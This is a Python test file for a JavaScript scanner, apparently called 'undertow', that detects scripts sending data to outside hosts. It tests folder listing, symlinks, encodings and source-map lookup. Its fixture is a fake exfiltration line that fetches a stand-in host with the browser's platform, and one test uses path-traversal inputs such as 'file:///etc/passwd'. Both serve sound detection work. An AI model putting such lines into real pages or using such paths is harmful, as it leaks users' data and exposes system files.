"""Files and folders, however strange: each script is read or said not to be, and nothing outside is opened."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from undertow.errors import UsageError
from undertow.model import Gap
from undertow.scan import scan
from undertow.scan.disk import from_disk
from undertow.scan.found import MOST_BYTES, Found, MapMissing

CODE = "fetch('https://sink.test/p?' + navigator.platform)"


def listed(path: Path) -> tuple[list[Found], dict[str, Gap]]:
    gaps: list[Gap] = []
    return list(from_disk(path, gaps)), {gap.where: gap for gap in gaps}


def names(path: Path) -> list[str]:
    return [found.name for found in listed(path)[0]]


def test_scripts_and_pages_of_a_folder_come_in_the_order_of_their_paths(tmp_path: Path) -> None:
    (tmp_path / "b").mkdir()
    for name in ("z.js", "b/c.mjs", "b/a.cjs", "a.txt", "style.css"):
        (tmp_path / name).write_text(CODE)
    (tmp_path / "m.html").write_text(f"<script>{CODE}</script><b onclick=a()>")
    assert names(tmp_path) == ["b/a.cjs", "b/c.mjs", "m.html (inline #1)", "m.html (onclick #1 of b)", "z.js"]


def test_a_link_out_of_the_folder_is_not_followed_and_said(tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    (tmp_path / "secret.js").write_text(CODE)
    (inside / "out.js").symlink_to("../secret.js")
    (inside / "up").symlink_to("..")
    found, gaps = listed(inside)
    assert found == []
    assert {where: gap.kind for where, gap in gaps.items()} == {
        "out.js": "link-not-followed",
        "up": "link-not-followed",
    }


def test_links_in_a_circle_and_links_within_the_folder_hide_nothing(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(CODE)
    (tmp_path / "same.js").symlink_to("a.js")
    (tmp_path / "round.js").symlink_to("round.js")
    (tmp_path / "nowhere.js").symlink_to("missing")
    (tmp_path / "self").symlink_to(".")
    found, gaps = listed(tmp_path)
    assert [f.name for f in found] == ["a.js"]
    assert gaps == {}


def test_a_pipe_is_not_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.js")
    found, gaps = listed(tmp_path)
    assert found == []
    assert gaps["pipe.js"].why == "It is not a regular file."


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_what_may_not_be_read_is_said(tmp_path: Path) -> None:
    (tmp_path / "locked.js").write_text(CODE)
    (tmp_path / "locked.js").chmod(0)
    (tmp_path / "folder").mkdir(mode=0)
    _, gaps = listed(tmp_path)
    assert {gap.kind for gap in gaps.values()} == {"file-not-read", "folder-not-read"}


def test_a_huge_file_is_said_and_not_read(tmp_path: Path) -> None:
    with (tmp_path / "huge.js").open("wb") as file:
        file.truncate(MOST_BYTES + 1)
    found, gaps = listed(tmp_path)
    assert found == []
    assert gaps["huge.js"].kind == "file-too-large"


def test_webassembly_is_said_whatever_it_is_called(tmp_path: Path) -> None:
    for name in ("a.wasm", "b.js"):
        (tmp_path / name).write_bytes(b"\0asm\1\0\0\0")
    found, gaps = listed(tmp_path)
    assert found == []
    assert {gap.kind for gap in gaps.values()} == {"wasm-not-read"}


def test_a_page_that_is_called_a_script_is_read_as_a_page(tmp_path: Path) -> None:
    (tmp_path / "x.js").write_text(f"\n<!DOCTYPE html><script>{CODE}</script>")
    found, gaps = listed(tmp_path)
    assert [f.name for f in found] == ["x.js (inline #1)"]
    assert not gaps["x.js"].hides_findings


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (CODE, "utf-8-sig"),
        ("\ufeff" + CODE, "utf-16-le"),
        ("\ufeff" + CODE, "utf-16-be"),
        (CODE.replace("(", "(\r\n"), "utf-8"),
    ],
    ids=["utf-8 with mark", "utf-16 little", "utf-16 big", "crlf"],
)
def test_a_script_is_read_in_whatever_text_it_comes(tmp_path: Path, content: str, encoding: str) -> None:
    (tmp_path / "a.js").write_bytes(content.encode(encoding))
    (script,) = scan(str(tmp_path / "a.js")).scripts
    assert [(flow.data, flow.host) for flow in script.flows] == [("device", "sink.test")]
    assert bool([gap for gap in script.gaps if gap.kind == "script-converted"]) == ("utf-16" in encoding)


@pytest.mark.parametrize(
    ("content", "parsed", "kinds"),
    [
        (b"", True, set()),
        (bytes(range(256)) * 20, False, {"script-not-parsed"}),
        (b"\0" * 500, False, {"script-not-parsed"}),
    ],
    ids=["empty", "binary", "zeros"],
)
def test_a_file_that_holds_no_script_is_a_clear_answer(
    tmp_path: Path, content: bytes, parsed: bool, kinds: set[str]
) -> None:
    (tmp_path / "a.js").write_bytes(content)
    (script,) = scan(str(tmp_path)).scripts
    assert (script.parsed, script.flows, {gap.kind for gap in script.gaps}) == (parsed, (), kinds)


def test_ten_thousand_files_are_listed_in_seconds(tmp_path: Path) -> None:
    for number in range(100):
        folder = tmp_path / f"{number}"
        folder.mkdir()
        for inner in range(100):
            (folder / f"{inner}.js").write_text("")
    start = time.monotonic()
    assert len(names(tmp_path)) == 10_000
    assert time.monotonic() - start < 20


@pytest.mark.parametrize("name", ["a\0b", "x" * 5000, "missing"])
def test_what_is_no_path_is_said(name: str) -> None:
    with pytest.raises(UsageError):
        listed(Path(name))


def test_what_a_script_names_is_looked_for_in_the_folder_of_the_scan_only(tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    (inside / "js").mkdir(parents=True)
    (inside / "js/a.js").write_text(CODE)
    (inside / "maps").mkdir()
    (inside / "maps/a.js.map").write_text("map")
    (tmp_path / "secret.map").write_text("secret")
    (inside / "js/link.map").symlink_to(tmp_path / "secret.map")
    (found,) = listed(inside)[0]
    assert found.beside is not None
    assert found.beside("../maps/a.js.map?v=1") == b"map"
    for outside in ("../../secret.map", str(tmp_path / "secret.map"), "file:///etc/passwd", "link.map", "//x/y", "\0"):
        with pytest.raises(MapMissing):
            found.beside(outside)
